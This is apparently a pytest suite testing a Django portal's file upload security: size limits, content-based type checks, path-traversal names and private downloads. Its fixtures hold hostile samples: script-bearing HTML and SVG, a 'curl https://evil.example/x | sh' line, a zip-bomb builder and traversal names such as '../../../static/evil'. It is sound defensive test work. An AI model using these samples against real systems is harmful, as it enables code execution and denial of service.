"""Every upload field of the portal, found by introspection, and the rule each one keeps, checked through the real view.

The fields are read from the models, from every form class of the project's apps and from the admin (its add and
change pages, and django-import-export's import views), so a new upload field without a rule in UPLOADS fails here.
For each endpoint a staff member sends, as a browser would: a file over the limit, files whose content is not what
their name says, names with paths, and good files; the good ones must land under the private root with a
server-chosen name and go out only to those allowed, as downloads with `nosniff`.
"""

import html
import importlib
import io
import pkgutil
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from django import forms
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.db import models
from django.test import Client
from django.urls import reverse
from django.utils import translation
from import_export.admin import ImportMixin

from companies.models import Company
from reports.models import ReportBuild
from workshops.models import Attachment

from ..factories import UserFactory
from ..workshops.test_uploads import docx_bytes, pdf_bytes, png_bytes, xlsx_bytes
from .conftest import World

pytestmark = pytest.mark.django_db

BOUNDARY = "----trust-upload-boundary"
PROJECT_ROOT = Path(settings.BASE_DIR).resolve()


# Finding the upload fields ----------------------------------------------------------------------------------------


def project_apps():
    """The portal's own apps (not Django's nor the libraries')."""
    return [
        config
        for config in apps.get_app_configs()
        if Path(config.path).resolve().is_relative_to(PROJECT_ROOT)
        and not Path(config.path).resolve().is_relative_to(PROJECT_ROOT / ".venv")
    ]


def import_project_modules() -> int:
    """Import every module of the project's apps (not migrations, commands or tests) so all form classes exist."""
    count = 0
    for config in project_apps():
        package = importlib.import_module(config.name)
        for module in pkgutil.walk_packages(package.__path__, prefix=f"{config.name}."):
            if {"migrations", "management", "tests"} & set(module.name.split(".")):
                continue
            importlib.import_module(module.name)
            count += 1
    return count


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def model_upload_fields() -> set[str]:
    return {
        f"model {model._meta.label}.{model_field.name}"
        for model in apps.get_models()
        for model_field in model._meta.get_fields()
        if isinstance(model_field, models.FileField)
    }


def form_upload_fields() -> set[str]:
    import_project_modules()
    roots = {config.name.split(".")[0] for config in project_apps()}
    return {
        f"form {form_class.__module__}.{form_class.__qualname__}.{name}"
        for form_class in set(_subclasses(forms.BaseForm))
        if form_class.__module__.split(".")[0] in roots
        for name, form_field in form_class.base_fields.items()
        if isinstance(form_field, forms.FileField)
    }


def file_inputs(page: str) -> list[str]:
    return re.findall(r'<input[^>]*type="file"[^>]*name="([^"]+)"|<input[^>]*name="([^"]+)"[^>]*type="file"', page)


def admin_upload_fields(client: Client) -> tuple[set[str], int]:
    """Every file input on the admin's add and change pages (as a superuser sees them), and import views."""
    found, pages = set(), 0
    for model, model_admin in admin.site._registry.items():
        label = model._meta.label
        if isinstance(model_admin, ImportMixin):
            found.add(f"admin import {label}")
        info = (model._meta.app_label, model._meta.model_name)
        urls = [reverse("admin:{}_{}_add".format(*info))]
        first = model._default_manager.order_by("pk").first()
        if first is not None:
            urls.append(reverse("admin:{}_{}_change".format(*info), args=[first.pk]))
        for url in urls:
            reply = client.get(url)
            if reply.status_code == 403:  # adding is switched off for this model (e.g. report builds)
                continue
            assert reply.status_code == 200, f"{url}: {reply.status_code}"
            pages += 1
            for names in file_inputs(reply.content.decode()):
                found.add(f"admin {label}: {''.join(names)}")
    return found, pages


# The endpoints a staff member uploads through -------------------------------------------------------------------


def multipart(fields: dict[str, str], filename: str, content: bytes) -> bytes:
    """A body with the file name exactly as given (Django's test client would cut a path off it)."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    return b"".join(parts) + head + content + f"\r\n--{BOUNDARY}--\r\n".encode()


def field_errors(reply) -> list[str]:
    """The messages shown next to the file field (crispy's invalid-feedback under the input)."""
    found = re.findall(r'id="error_\d+_id_file"[^>]*>(.*?)</(?:span|div|p)>', reply.content.decode(), re.S)
    return [html.unescape(re.sub(r"<[^>]+>", "", text)).strip() for text in found]


def files_under(root: Path) -> set[Path]:
    return {path for path in Path(root).rglob("*") if path.is_file()} if Path(root).exists() else set()


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>name,business_id\n</body></html>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.domain)</script></svg>"
    )


def windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" + b"\x00" * 64


def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def zip_of(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def plain_zip() -> bytes:
    return zip_of({"evil.exe": windows_program()})


def xlsx_bomb() -> bytes:
    """A valid import workbook padded to 60 MB of blanks: ~70 kB sent, costly when the server reads it."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "kind"])
    workbook.active.append(["Pommi Oy", "company"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as original:
        parts = {info.filename: original.read(info.filename) for info in original.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</worksheet>", b" " * (60 * 1024 * 1024) + b"</worksheet>")
    return zip_of(parts)


def import_csv(name: str = "Turvatesti Oy") -> bytes:
    return f"name,business_id,kind\n{name},,company\n".encode()


@dataclass
class Endpoint:
    """One upload view and what it must do with good and bad files."""

    name: str
    limit_bytes: int
    extensions: tuple[str, ...]  # the names a disguised file is given
    too_large: str  # the message (msgid) of a file over the limit
    bad_files: dict = field(default_factory=dict)  # label -> make()
    good_files: dict = field(default_factory=dict)  # file name -> make()
    fields: dict = field(default_factory=dict)  # the other fields of the form

    def url(self, world: World) -> str:
        raise NotImplementedError

    def post(self, client: Client, world: World, filename: str, content: bytes):
        return client.post(
            self.url(world),
            data=multipart(self.fields, filename, content),
            content_type=f"multipart/form-data; boundary={BOUNDARY}",
        )

    def rows(self) -> int:
        raise NotImplementedError


COMMON_BAD_FILES = {
    "HTML page with script": html_page,
    "SVG with script": svg_with_script,
    "Windows program": windows_program,
    "Linux program": linux_program,
    "shell script": shell_script,
    "ZIP holding a program": plain_zip,
}


class AttachmentEndpoint(Endpoint):
    def url(self, world):
        return reverse("workshops:attachment_upload", args=["interview", world.interview.pk])

    def rows(self):
        return Attachment.objects.count()


class ImportEndpoint(Endpoint):
    def url(self, world):
        return reverse("companies:import")

    def rows(self):
        return Company.objects.count()


ATTACHMENT = AttachmentEndpoint(
    name="attachment",
    limit_bytes=20 * 1024 * 1024,
    extensions=(".pdf", ".png", ".xlsx"),
    too_large="The file is too large (%(size)s MB). The largest allowed is 20 MB.",
    # A Word document named .xlsx: an allowed type, but not the one its name claims.
    bad_files={**COMMON_BAD_FILES, "DOCX named as another type": docx_bytes},
    good_files={"kuva fläpistä.png": png_bytes, "pöytäkirja.pdf": pdf_bytes, "osallistujat.xlsx": xlsx_bytes},
    fields={"description": "Turvatesti"},
)
IMPORT = ImportEndpoint(
    name="company import",
    limit_bytes=5 * 1024 * 1024,
    extensions=(".csv", ".xlsx"),
    too_large="The file is larger than 5 MB.",
    bad_files={**COMMON_BAD_FILES, "PNG image": png_bytes, "PDF": pdf_bytes, "XLSX zip bomb": xlsx_bomb},
    good_files={"yritykset.csv": import_csv},
)


@dataclass(frozen=True)
class Rule:
    """How an upload field is kept safe: through a checked endpoint, or not uploadable at all."""

    endpoint: Endpoint | None
    words: str


NOT_UPLOADABLE = "not uploadable: written by the server (the report build), read-only in admin"
UPLOADS: dict[str, Rule] = {
    "model workshops.Attachment.file": Rule(ATTACHMENT, "through the staff page's upload, checked by content"),
    "form workshops.forms.records.AttachmentForm.file": Rule(ATTACHMENT, "the staff page's upload form"),
    "form companies.forms.CompanyImportForm.file": Rule(
        IMPORT, "read into rows by the import; kept in the cache until its preview is confirmed, never on disk"
    ),
    "model reports.ReportBuild.pdf": Rule(None, NOT_UPLOADABLE),
    "model reports.ReportBuild.docx": Rule(None, NOT_UPLOADABLE),
}
ENDPOINTS = {rule.endpoint.name: rule.endpoint for rule in UPLOADS.values() if rule.endpoint}


@pytest.fixture
def superuser(db):
    return UserFactory(username="super-admin", is_staff=True, is_superuser=True)


@pytest.fixture
def admin_client(superuser) -> Client:
    client = Client()
    client.force_login(superuser)
    return client


def _staff_browser(staff, language: str = "en") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(staff)
    return client


@pytest.mark.trust("A new upload field is added without the upload rules", area="Security")
def test_every_upload_field_of_models_forms_and_admin_has_a_rule(world, admin_client, trust_figure):
    models_found = model_upload_fields()
    forms_found = form_upload_fields()
    admin_found, admin_pages = admin_upload_fields(admin_client)
    found = models_found | forms_found | admin_found
    # Guards the discovery itself: the two known model fields and the two forms must be seen.
    assert {"model workshops.Attachment.file", "model reports.ReportBuild.pdf"} <= models_found
    assert len(forms_found) >= 2
    assert admin_pages >= 30
    missing = sorted(found - set(UPLOADS))
    assert not missing, f"upload fields without a rule (add them to UPLOADS with their endpoint): {missing}"
    stale = sorted(set(UPLOADS) - found)
    assert not stale, f"rules for upload fields that no longer exist: {stale}"
    trust_figure("upload fields found", len(found))
    trust_figure("covered by a rule", len(found & set(UPLOADS)))
    trust_figure("admin pages searched for file inputs", admin_pages)


@pytest.mark.trust("A file over the size limit is stored, or refused without a reason", area="Security")
@pytest.mark.parametrize("endpoint", ENDPOINTS.values(), ids=ENDPOINTS.keys())
@pytest.mark.parametrize("language", ["fi", "sv"])
def test_a_file_over_the_limit_is_refused_next_to_the_field_in_the_users_language(
    endpoint, language, world, staff, trust_figure
):
    client = _staff_browser(staff, language)
    before_rows, before_files = endpoint.rows(), files_under(settings.PRIVATE_ROOT)
    extension = endpoint.extensions[0]
    content = endpoint.good_files[next(iter(endpoint.good_files))]()
    content += b"\n" * (endpoint.limit_bytes + 1 - len(content))
    reply = endpoint.post(client, world, f"suuri{extension}", content)
    assert reply.status_code in (400, 413)
    params = {"size": f"{len(content) / (1024 * 1024):.1f}"}
    with translation.override(language):
        expected = translation.gettext(endpoint.too_large) % params
    # In the user's language: the catalogue's words, not the English source.
    assert expected != endpoint.too_large % params
    assert field_errors(reply) == [expected]
    assert endpoint.rows() == before_rows
    assert files_under(settings.PRIVATE_ROOT) == before_files
    trust_figure("bytes sent", len(content))
    trust_figure("files stored", len(files_under(settings.PRIVATE_ROOT) - before_files))


@pytest.mark.trust("A disguised file (web page, program, SVG, zip bomb renamed) is accepted", area="Security")
@pytest.mark.parametrize("endpoint", ENDPOINTS.values(), ids=ENDPOINTS.keys())
def test_disguised_files_are_refused_by_their_content(endpoint, world, staff, trust_figure):
    client = _staff_browser(staff)
    before_rows, before_files = endpoint.rows(), files_under(settings.PRIVATE_ROOT)
    tried, accepted = 0, []
    for label, make in endpoint.bad_files.items():
        content = make()
        for extension in endpoint.extensions:
            reply = endpoint.post(client, world, f"liite{extension}", content)
            tried += 1
            if reply.status_code != 400 or not field_errors(reply):
                accepted.append(f"{label} as {extension}: {reply.status_code}")
    assert accepted == []
    assert endpoint.rows() == before_rows
    assert files_under(settings.PRIVATE_ROOT) == before_files
    trust_figure("bad files tried", tried)
    trust_figure("accepted bad files", len(accepted))


TRAVERSAL_NAMES = ("../../../static/evil{ext}", "..\\..\\evil{ext}", "/etc/evil{ext}", "..&#47;evil{ext}")


@pytest.mark.trust("A file name with a path writes outside the private folder", area="Security")
@pytest.mark.parametrize("endpoint", ENDPOINTS.values(), ids=ENDPOINTS.keys())
def test_a_path_in_the_file_name_never_reaches_the_file_system(endpoint, world, staff, tmp_path, trust_figure):
    client = _staff_browser(staff)
    watched = [tmp_path, PROJECT_ROOT / "static", Path(settings.STATIC_ROOT), Path("/etc")]
    good_name, make = next(iter(endpoint.good_files.items()))
    extension = Path(good_name).suffix
    for pattern in TRAVERSAL_NAMES:
        name = pattern.format(ext=extension)
        reply = endpoint.post(client, world, name, make(name="Polku Oy") if endpoint is IMPORT else make())
        assert reply.status_code in (200, 302, 400), name
    outside = [path for root in watched if root.exists() for path in root.rglob("evil*")]
    assert outside == []
    # What was stored carries a server-chosen name; no row keeps a path.
    for attachment in Attachment.objects.exclude(pk=world.attachment.pk):
        assert re.fullmatch(r"attachments/[0-9a-f]{32}\.[a-z]+", attachment.file.name)
        assert "/" not in attachment.original_name and "\\" not in attachment.original_name
    trust_figure("names with a path tried", len(TRAVERSAL_NAMES))
    trust_figure("files written outside the private root", len(outside))


def _assert_private_download(reply, content: bytes) -> None:
    assert reply.status_code == 200
    assert reply["Content-Disposition"].startswith("attachment")
    assert reply["X-Content-Type-Options"] == "nosniff"
    assert b"".join(reply.streaming_content) == content


@pytest.mark.trust("An accepted file is served publicly or inline", area="Security")
def test_accepted_attachments_are_private_with_safe_names_and_served_only_to_staff(world, staff, clients, trust_figure):
    client = _staff_browser(staff)
    private_root = Path(settings.PRIVATE_ROOT).resolve()
    public_roots = [Path(settings.STATIC_ROOT).resolve(), *(Path(d).resolve() for d in settings.STATICFILES_DIRS)]
    served = 0
    for name, make in ATTACHMENT.good_files.items():
        content = make()
        reply = ATTACHMENT.post(client, world, name, content)
        assert reply.status_code == 302, field_errors(reply)
        attachment = Attachment.objects.get(original_name=name)
        stored = Path(attachment.file.path).resolve()
        assert stored.is_relative_to(private_root)
        assert not any(stored.is_relative_to(root) for root in public_roots)
        assert re.fullmatch(r"attachments/[0-9a-f]{32}" + re.escape(Path(name).suffix), attachment.file.name)
        assert stored.read_bytes() == content
        url = reverse("workshops:attachment", args=[attachment.pk])
        _assert_private_download(clients["staff"].get(url), content)
        _assert_private_download(clients["viewer"].get(url), content)
        served += 1
        # Those without a right get no byte of it; nothing serves the stored name directly.
        assert clients["anonymous"].get(url).status_code == 302
        assert clients["company"].get(url).status_code == 302
        assert clients["outsider"].get(url).status_code == 403
        for guess in (f"{settings.MEDIA_URL}{attachment.file.name}", f"/{settings.STATIC_URL}{attachment.file.name}"):
            assert clients["staff"].get(guess).status_code == 404
    trust_figure("good files stored and served", served)


def test_an_accepted_import_file_is_read_and_never_stored(world, staff):
    client = _staff_browser(staff)
    before = files_under(settings.PRIVATE_ROOT)
    reply = IMPORT.post(client, world, "yritykset.csv", import_csv())
    assert reply.status_code == 302, field_errors(reply)
    # The preview keeps the bytes in the cache for the confirmation, which applies them.
    preview = client.get(reply["Location"])
    assert not Company.objects.filter(name="Turvatesti Oy").exists()
    confirmed = client.post(reply["Location"], {"sha256": preview.context["result"].sha256})
    assert confirmed.status_code == 302
    assert Company.objects.filter(name="Turvatesti Oy").exists()
    assert files_under(settings.PRIVATE_ROOT) == before


@pytest.mark.trust("Someone uploads a file into the report build's PDF field", area="Security")
def test_the_report_pdf_is_not_uploadable_and_its_download_is_private(world, admin_client, clients, trust_figure):
    assert UPLOADS["model reports.ReportBuild.pdf"].endpoint is None
    change = reverse("admin:reports_reportbuild_change", args=[world.build.pk])
    page = admin_client.get(change)
    assert page.status_code == 200
    assert file_inputs(page.content.decode()) == []
    model_admin = admin.site._registry[ReportBuild]
    request = page.wsgi_request
    assert "pdf" not in model_admin.get_fields(request, world.build)
    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request, world.build)
    before = world.build.pdf.name
    posted = admin_client.post(change, {"pdf": io.BytesIO(b"<html>evil</html>")})
    assert posted.status_code == 403
    world.build.refresh_from_db()
    assert world.build.pdf.name == before
    url = reverse("reports:build_download", args=[world.build.pk])
    _assert_private_download(clients["staff"].get(url), b"%PDF-1.4\n%%EOF\n")
    assert clients["anonymous"].get(url).status_code == 302
    assert clients["outsider"].get(url).status_code == 403
    trust_figure("file inputs on the build's admin page", len(file_inputs(page.content.decode())))
